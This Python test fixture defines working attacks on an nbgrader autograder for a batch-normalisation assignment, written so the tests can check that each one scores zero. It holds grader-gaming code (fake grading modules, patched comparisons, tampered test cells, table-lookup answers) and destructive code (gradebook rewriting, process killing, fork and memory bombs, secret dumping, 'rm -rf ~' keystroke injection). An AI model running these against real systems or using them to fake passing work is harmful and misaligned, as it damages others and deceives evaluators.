"""Attacks on the grader, as a student who wants marks without the work would write them.

Each attack is code added to an otherwise blank ps1 notebook (the release, whose functions
raise NotImplementedError), sometimes with the functions themselves replaced, files shipped
beside the notebook, or the notebook's cells tampered with. ``test_grading_attacks.py`` grades
them all in one real ``nbgrader autograde`` run next to honest bystanders; each attack must
score 0 and leave the bystanders' marks and files untouched. ``test_grading_audit.py``
checks that the audit command flags every one of them.

The three functions of ps1: ``batchnorm_forward``, ``running_stats_update``,
``batchnorm_inference``.
"""
from dataclasses import dataclass, field

SECRET_ENV = "BNREF_GRADER_SECRET"           # set in the grader's environment by the test
SECRET_VALUE = "env-secret-5b1f0c"
SECRET_FILE_TEXT = "home-secret-9d2e77"       # a file in the grader's HOME
SOLUTION_MARKER = "solution-marker-a41c3e"    # a comment planted in the course's solutions/


@dataclass
class Attack:
    why: str                                  # what it tries
    cells: list = field(default_factory=list)        # code cells added after the first solution cell
    answers: dict = field(default_factory=dict)      # grade_id -> code for solution cells
    files: dict = field(default_factory=dict)        # extra files in the submission folder
    tamper: str = ""                                  # a change to the notebook's cells (see the test)
    kind: str = "marks"                               # "marks" (undeserved marks) or "harm" (to others)
    first: bool = False                               # cells go first (before every test cell), not
                                                      # after the last solution cell


FUNCS = ("batchnorm_forward", "running_stats_update", "batchnorm_inference")
SIGS = {"batchnorm_forward": "x, gamma, beta, eps=1e-5",
        "running_stats_update": "running_mean, running_var, x, momentum=0.1",
        "batchnorm_inference": "x, gamma, beta, running_mean, running_var, eps=1e-5"}


def each_function(body):
    """All three functions with the same body (one line per function)."""
    return "\n".join(f"def {f}({SIGS[f]}):\n    {body}\n" for f in FUNCS)


def answers_each(body):
    """Each solution cell replaced by its function with this one-line body."""
    return {f: f"def {f}({SIGS[f]}):\n    {body}\n" for f in FUNCS}


FAKE_CHECKS = '''
def _ok(*args, **kwargs):
    print("Passed")
names = ["check_batchnorm_forward", "check_running_stats_update", "check_batchnorm_inference"]
'''

ATTACKS = {
    # ---------------------------------------------------------------- undeserved marks
    "execute_result_then_raise": Attack(
        "a function that shows a number as an execute_result before raising: stock nbgrader "
        "reads it as a partial-credit score",
        answers=answers_each("import sys; sys.displayhook(1.0); raise ValueError('no')")),
    "display_publish": Attack(
        "publish display data through IPython's shell from inside the functions",
        answers=answers_each("get_ipython().display_pub.publish({'text/plain': '1.0'}); raise ValueError")),
    "fake_grading_module_finder": Attack(
        "an import-system finder that serves a fake bnref.grading whose checks always pass",
        cells=["import sys, types, importlib.abc, importlib.machinery\n" + FAKE_CHECKS +
               "class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
               "    def find_spec(self, name, path, target=None):\n"
               "        if name.startswith('bnref'):\n"
               "            return importlib.machinery.ModuleSpec(name, self, is_package=True)\n"
               "    def create_module(self, spec):\n"
               "        m = types.ModuleType(spec.name)\n"
               "        for n in names: setattr(m, n, _ok)\n"
               "        return m\n"
               "    def exec_module(self, module):\n"
               "        pass\n"
               "sys.meta_path.insert(0, Finder())\n"], first=True),
    "bnref_package_written_by_a_cell": Attack(
        "write a bnref/grading package next to the notebook so that the test cells import it",
        cells=["import os\n" + FAKE_CHECKS +
               "for d in ['bnref', 'bnref/grading']:\n"
               "    os.makedirs(d, exist_ok=True)\n"
               "    open(d + '/__init__.py', 'w').write('')\n"
               "src = 'def _ok(*a, **k):\\n    print(\"Passed\")\\n' + ''.join(n + ' = _ok\\n' for n in names)\n"
               "open('bnref/grading/__init__.py', 'w').write(src)\n"
               "import sys; sys.path.insert(0, os.getcwd())\n"], first=True),
    "bnref_package_shipped_in_the_submission": Attack(
        "ship a fake bnref/grading package in the submission folder, beside the notebook",
        files={"bnref/__init__.py": "",
               "bnref/grading/__init__.py": "def _ok(*a, **k):\n    print('Passed')\n"
               "check_batchnorm_forward = check_running_stats_update = check_batchnorm_inference = _ok\n"}),
    "input_transformer_empties_test_cells": Attack(
        "an IPython input transformer that turns every later cell into `pass`",
        cells=["get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"], first=True),
    "custom_exception_handler": Attack(
        "an IPython exception handler that swallows the test cells' errors",
        cells=["get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"], first=True),
    "run_the_instructors_solutions": Attack(
        "find solutions/ps1_forward on disk and run its solution cells (in place of each answer)",
        answers=dict.fromkeys(FUNCS, "import os, json\n"
               "def _run_solutions():\n"
               "    for top in ['..', '../..', '../../..', '/', os.path.expanduser('~'), '/work', '/tmp']:\n"
               "        for root, dirs, files in os.walk(top):\n"
               "            if root.endswith(os.path.join('solutions', 'ps1_forward')):\n"
               "                for f in files:\n"
               "                    if f.endswith('.ipynb'):\n"
               "                        nb = json.load(open(os.path.join(root, f)))\n"
               "                        for c in nb['cells']:\n"
               "                            if c.get('metadata', {}).get('nbgrader', {}).get('solution'):\n"
               "                                exec(''.join(c['source']), globals())\n"
               "                        return\n"
               "_run_solutions()\n")),
    "bnref_in_a_thread": Attack(
        "import bnref in a thread and use it (watchers only looked at the main thread)",
        cells=["import threading\n"
               "box = {}\n"
               "def work():\n"
               "    import bnref\n"
               "    box['bnref'] = bnref\n"
               "t = threading.Thread(target=work); t.start(); t.join()\n"], first=True,
        answers={"batchnorm_forward": "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n"
                                      "    return box['bnref'].batchnorm_forward(x, gamma, beta, eps)\n",
                 "running_stats_update": "def running_stats_update(running_mean, running_var, x, momentum=0.1):\n"
                                         "    return box['bnref'].running_stats_update(running_mean, running_var,"
                                         " x, momentum, axis=1)\n",
                 "batchnorm_inference": "def batchnorm_inference(x, gamma, beta, running_mean, running_var, "
                                        "eps=1e-5):\n    return box['bnref'].batchnorm_inference(x, gamma, beta, "
                                        "running_mean, running_var, eps)\n"}),
    "bnref_in_a_child_process": Attack(
        "compute the answers with bnref in a child process started before the checks",
        cells=["import subprocess, sys, json, numpy as np\n"
               "child = subprocess.Popen([sys.executable, '-c', 'import sys, json, numpy as np, bnref\\n"
               "for line in sys.stdin:\\n    a = json.loads(line)\\n"
               "    y, _ = bnref.batchnorm_forward(np.array(a[0]), np.array(a[1]), np.array(a[2]), a[3])\\n"
               "    print(json.dumps(y.tolist()), flush=True)'],\n"
               "    stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)\n"
               "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n"
               "    child.stdin.write(json.dumps([x.tolist(), gamma.tolist(), beta.tolist(), eps]) + '\\n')\n"
               "    child.stdin.flush()\n"
               "    return np.array(json.loads(child.stdout.readline())), None\n"]),
    "frame_inspection": Attack(
        "walk up the call stack and rewrite the grader's variables (a watcher's record, a verdict)",
        cells=["import sys, gc\n"
               "def _rewrite():\n"
               "    f = sys._getframe(1)\n"
               "    while f is not None:\n"
               "        for k in list(f.f_locals):\n"
               "            if k in ('passed', 'verdict', 'calls', 'found', 'record'):\n"
               "                f.f_locals[k] = True\n"
               "        f = f.f_back\n"
               "    for o in gc.get_objects():\n"
               "        if type(o).__name__ in ('Verdict', 'Watcher'):\n"
               "            o.passed = True\n"
               "    return None, None\n"
               "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n    return _rewrite()\n"
               "def running_stats_update(running_mean, running_var, x, momentum=0.1):\n    return _rewrite()\n"
               "def batchnorm_inference(x, gamma, beta, running_mean, running_var, eps=1e-5):\n"
               "    return _rewrite()[0]\n"]),
    "bnref_source_under_another_name": Attack(
        "read bnref's kernel source from the installed package and exec it under another file name",
        cells=["import glob, os\n"
               "paths = glob.glob('/**/bnref/kernels/numpy_bn.py', recursive=True)\n"
               "ns = {}\n"
               "exec(compile(open(paths[0]).read(), 'my_own_code.py', 'exec'), ns)\n"
               "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n"
               "    y, *_ = ns['bn_forward_train'](x[..., None], gamma, beta, eps)\n"
               "    return y[..., 0], None\n"]),
    "behaves_differently_when_graded": Attack(
        "detect grading (environment, PID 1, sandbox paths) and only then use the reference",
        cells=["import os, sys\n"
               "graded = 'NBGRADER_EXECUTION' in os.environ or os.path.exists('/sandbox') or os.getpid() < 10\n"
               "if graded:\n"
               "    sys.path[:0] = ['/work/main', os.path.expanduser('~/bnref')]\n"
               "    import bnref\n"
               "    def batchnorm_forward(x, gamma, beta, eps=1e-5):\n"
               "        return bnref.batchnorm_forward(x, gamma, beta, eps)\n"]),
    "forged_reply_on_the_protocol_pipe": Attack(
        "write a well-formed 'all passed' reply straight onto every open file descriptor",
        cells=["import os, json, struct\n"
               "msg = json.dumps({'k': 'dict', 'items': [['op', {'k': 'str', 'v': 'result'}],"
               " ['passed', {'k': 'bool', 'v': True}]]}).encode()\n"
               "frame = struct.pack('<I', len(msg)) + msg\n"
               "frame = struct.pack('<Q', len(frame)) + frame\n"
               "for fd in range(3, 64):\n"
               "    try: os.write(fd, frame * 3)\n"
               "    except OSError: pass\n" + each_function("return None")]),
    "patch_numpy_comparisons": Attack(
        "make every NumPy comparison say 'equal'",
        cells=["import numpy as np, numpy.testing\n"
               "np.allclose = lambda *a, **k: True\n"
               "np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)\n"
               "np.array_equal = lambda *a, **k: True\n"
               "numpy.testing.assert_allclose = lambda *a, **k: None\n"], first=True,
        answers=answers_each("return np.zeros(1), np.zeros(1)")),
    "objects_that_equal_everything": Attack(
        "return objects whose comparisons and conversions claim to match anything",
        cells=["import numpy as np\n"
               "class Anything(np.ndarray):\n"
               "    def __eq__(self, other): return True\n"
               "    def __array_ufunc__(self, *a, **k): return True\n"
               "    def __array_function__(self, *a, **k): return True\n"
               "class Liar:\n"
               "    shape = property(lambda self: (10 ** 9,))\n"
               "    def __eq__(self, o): return True\n"
               "    def __array__(self, *a, **k): raise RuntimeError\n"
               "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n"
               "    return np.zeros_like(x).view(Anything), None\n"
               "def running_stats_update(running_mean, running_var, x, momentum=0.1):\n"
               "    return Liar(), Liar()\n"
               "def batchnorm_inference(x, gamma, beta, running_mean, running_var, eps=1e-5):\n"
               "    return Liar()\n"]),
    "huge_return_values": Attack(
        "return arrays far larger than any test (memory and reply-size limits)",
        cells=["import numpy as np\n" + each_function("return np.ones((1 << 28,)), np.ones((1 << 28,))")]),
    "cell_posing_as_a_100_point_test": Attack(
        "give a learner cell nbgrader metadata: a graded cell worth 100 points",
        tamper="bonus_cell"),
    "cell_claiming_a_test_cells_id": Attack(
        "put `print('Passed')` in a cell that carries a test cell's grade_id, after the real one",
        tamper="duplicate_test_id"),
    "test_cells_deleted": Attack("delete every test cell", tamper="delete_tests"),
    "test_cells_edited": Attack("replace every test cell's code by `print('Passed')`", tamper="edit_tests"),
    "test_cell_made_markdown": Attack("turn every test cell into a markdown cell", tamper="markdown_tests"),
    "test_cell_metadata_stripped": Attack(
        "remove the nbgrader metadata of every test cell (and give the points to a learner cell)",
        tamper="strip_test_metadata"),
    # ---------------------------------------------------------------- harm to others
    "gradebook_zeroes_other_students": Attack(
        "find gradebook.db, set every other student's scores to 0 and one's own to full marks",
        kind="harm",
        cells=["import os, sqlite3\n"
               "def _zero_everyone():\n"
               "    for top in ['..', '../..', '../../..', '/', os.path.expanduser('~'), '/tmp', '/work']:\n"
               "        for root, dirs, files in os.walk(top):\n"
               "            if 'gradebook.db' in files:\n"
               "                db = sqlite3.connect(os.path.join(root, 'gradebook.db'))\n"
               "                db.execute('UPDATE grade SET auto_score = 0, manual_score = 0')\n"
               "                db.execute('UPDATE grade_cells SET max_score = 0')\n"
               "                db.commit()\n"
               "                return\n"
               "_zero_everyone()\n"]),
    "gradebook_rewrites_source_cells": Attack(
        "rewrite the gradebook's source_cell rows that deleted test cells are restored from",
        kind="harm",
        cells=["import glob, sqlite3\n"
               "for p in glob.glob('/**/gradebook.db', recursive=True):\n"
               "    db = sqlite3.connect(p)\n"
               "    db.execute(\"UPDATE source_cell SET source = 'print(1)'\")\n"
               "    db.commit()\n"], tamper="delete_tests"),
    "detached_process_after_grading": Attack(
        "start a daemon that outlives grading and changes scores after autograde exits",
        kind="harm",
        cells=["import os, time, glob, sqlite3\n"
               "if os.fork() == 0:\n"
               "    os.setsid()\n"
               "    if os.fork() == 0:\n"
               "        time.sleep(6)\n"
               "        for p in glob.glob('/**/gradebook.db', recursive=True):\n"
               "            db = sqlite3.connect(p)\n"
               "            db.execute('UPDATE grade SET auto_score = 0')\n"
               "            db.commit()\n"
               "        for p in glob.glob('/**/submitted/*/*/*.ipynb', recursive=True):\n"
               "            open(p, 'w').write('{}')\n"
               "    os._exit(0)\n"]),
    "overwrites_another_submission": Attack(
        "overwrite another student's submitted (and autograded) notebook",
        kind="harm",
        cells=["import glob, os\n"
               "for pattern in ['../../*/ps1_forward/*.ipynb', '/**/submitted/*/ps1_forward/*.ipynb',\n"
               "                '/**/autograded/*/ps1_forward/*.ipynb']:\n"
               "    for p in glob.glob(pattern, recursive=True):\n"
               "        try:\n"
               "            os.chmod(p, 0o666); open(p, 'w').write('{}')\n"
               "        except OSError:\n"
               "            pass\n"]),
    "kills_the_grader": Attack(
        "SIGKILL the parent, every process it can see, and its process group",
        kind="harm",
        cells=["import os, signal\n"
               "for pid in [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
               "    if pid != os.getpid():\n"
               "        try: os.kill(pid, signal.SIGKILL)\n"
               "        except OSError: pass\n"
               "for how in (lambda: os.killpg(0, 9), lambda: os.kill(-1, 9)):\n"
               "    try: how()\n"
               "    except OSError: pass\n"]),
    "prints_secrets_into_the_feedback": Attack(
        "print the environment, the grader's home, other students' names and the solutions",
        kind="harm",
        cells=["import os, glob\n"
               "print(dict(os.environ))\n"
               "for p in glob.glob(os.path.expanduser('~') + '/*') + glob.glob('/root/*') + glob.glob('/home/*/*'):\n"
               "    try: print(p, open(p).read()[:200])\n"
               "    except OSError: print(p)\n"
               "print(glob.glob('../../*') + glob.glob('/**/submitted/*', recursive=True))\n"
               "for p in glob.glob('/**/solutions/**/*.ipynb', recursive=True):\n"
               "    print(open(p).read())\n"
               "for p in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n"
               "    try: print(p, open(p, 'rb').read()[:500])\n"
               "    except OSError: pass\n"]),
    "fork_bomb": Attack(
        "start processes until the machine runs out", kind="harm",
        cells=["import os, time\n"
               "kids = 0\n"
               "try:\n"
               "    while kids < 100000:\n"
               "        if os.fork() == 0:\n"
               "            time.sleep(60); os._exit(0)\n"
               "        kids += 1\n"
               "except OSError:\n"
               "    pass\n"]),
    "memory_bomb": Attack(
        "allocate and touch 64 GB", kind="harm",
        cells=["import numpy as np\nhog = [np.ones(1 << 30) for _ in range(64)]\n"]),
    "disk_fill": Attack(
        "write until every writable disk is full", kind="harm",
        cells=["import os\n"
               "for d in ['.', '/tmp', '/scratch', os.path.expanduser('~'), '/dev/shm']:\n"
               "    try:\n"
               "        with open(os.path.join(d, 'fill'), 'wb') as f:\n"
               "            for _ in range(1 << 16):\n"
               "                f.write(b'x' * (1 << 20))\n"
               "    except OSError:\n"
               "        pass\n"]),
    "output_flood": Attack(
        "print hundreds of megabytes, through Python and straight to the file descriptors", kind="harm",
        cells=["import os, sys\n"
               "print('x' * (200 << 20))\n"
               "for _ in range(200):\n"
               "    os.write(1, b'y' * (1 << 20)); os.write(2, b'z' * (1 << 20))\n"]),
    "infinite_loops_everywhere": Attack(
        "every function loops forever, and so does a cell", kind="harm",
        cells=["while True:\n    pass\n", each_function("while True: pass")]),
    "crashes_the_interpreter": Attack(
        "segfault and os._exit, in a cell and inside every function", kind="harm",
        cells=["import ctypes, os\n" + each_function("os._exit(3)"),
               "import ctypes\nctypes.string_at(0)\n"]),
    "network_and_terminal": Attack(
        "reach the network and the grader's terminal (keystroke injection with TIOCSTI)", kind="harm",
        cells=["import socket, fcntl, termios, os\n"
               "for host, port in [('127.0.0.1', 22), ('8.8.8.8', 53), ('127.0.0.1', 8888)]:\n"
               "    try:\n"
               "        socket.create_connection((host, port), timeout=1).sendall(b'x')\n"
               "    except OSError:\n"
               "        pass\n"
               "for fd in (0, 1, 2):\n"
               "    try:\n"
               "        for ch in 'rm -rf ~\\n':\n"
               "            fcntl.ioctl(fd, termios.TIOCSTI, ch)\n"
               "    except OSError:\n"
               "        pass\n"]),
}

# Honest work that must get every point: correct answers with the noise real notebooks have.
HONEST = {
    "warnings_and_prints": [
        "import sys, warnings\n"
        "warnings.warn('this is only a reminder')\n"
        "warnings.warn('old API', DeprecationWarning)\n"
        "print('debugging output'); print('to stderr', file=sys.stderr)\n"],
    "magics_display_and_a_failing_scratch_cell": [
        "%timeit 1 + 1\n!ls\nx = 3\ndisplay(x)\n", "import matplotlib.pyplot as plt\nplt.plot([1, 2])\n",
        "undefined_name + 1\n"],
    "helpers_in_another_cell": [
        "def _helper_mean(x):\n    return x.mean(axis=0)\n"],
    "scratch_cell_that_exits": ["import os\nos._exit(0)\n"],
}


def _answer_table():
    """A learner's table of bnref's outputs for every input the visible test cells use.

    The visible inputs are fixed (the learner sees them in their kernel) and the cases are
    public, so anyone can compute this at home. Returns the source of three functions that
    look the inputs up and never compute anything.
    """
    import hashlib

    import numpy as np

    import bnref
    from bnref.grading.exercise import _rng_factory
    from bnref.grading.exercises import EXERCISES

    def key(*arrays):
        return hashlib.sha1(b"".join(np.ascontiguousarray(a).tobytes() for a in arrays)).hexdigest()

    table = {}
    rng = _rng_factory(0)
    for name in FUNCS:
        for case in EXERCISES[name].cases.values():
            if case.hidden:
                continue
            for t in case.build(rng):
                eps = t.get("eps", 1e-5)
                if name == "batchnorm_forward":
                    out = bnref.batchnorm_forward(t["x"], t["gamma"], t["beta"], eps=eps)[0]
                    table[key(t["x"], t["gamma"], t["beta"])] = [out.tolist()]
                elif name == "batchnorm_inference":
                    out = bnref.batchnorm_inference(t["x"], t["gamma"], t["beta"], t["running_mean"],
                                                    t["running_var"], eps=eps)
                    table[key(t["x"], t["gamma"], t["beta"], t["running_mean"], t["running_var"])] = [out.tolist()]
                else:
                    rm, rv = t["running_mean"], t["running_var"]
                    for x in t["xs"]:
                        new = bnref.running_stats_update(rm, rv, x, momentum=t.get("momentum", 0.1), axis=1)
                        table[key(rm, rv, x)] = [a.tolist() for a in new]
                        rm, rv = (a.astype(rm.dtype) for a in new)
    return (f"import hashlib\nimport numpy as np\nTABLE = {table!r}\n"
            "def _look_up(*arrays):\n"
            "    k = hashlib.sha1(b''.join(np.ascontiguousarray(a).tobytes() for a in arrays)).hexdigest()\n"
            "    return [np.array(v, dtype=arrays[0].dtype) for v in TABLE[k]]\n"
            "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n"
            "    return _look_up(x, gamma, beta)[0], None\n"
            "def running_stats_update(running_mean, running_var, x, momentum=0.1):\n"
            "    return tuple(_look_up(running_mean, running_var, x))\n"
            "def batchnorm_inference(x, gamma, beta, running_mean, running_var, eps=1e-5):\n"
            "    return _look_up(x, gamma, beta, running_mean, running_var)[0]\n")


ATTACKS["answers_looked_up_from_a_table"] = Attack(
    "return bnref's outputs for the visible tests' inputs, looked up in a table computed at home",
    answers=dict.fromkeys(FUNCS, _answer_table()))
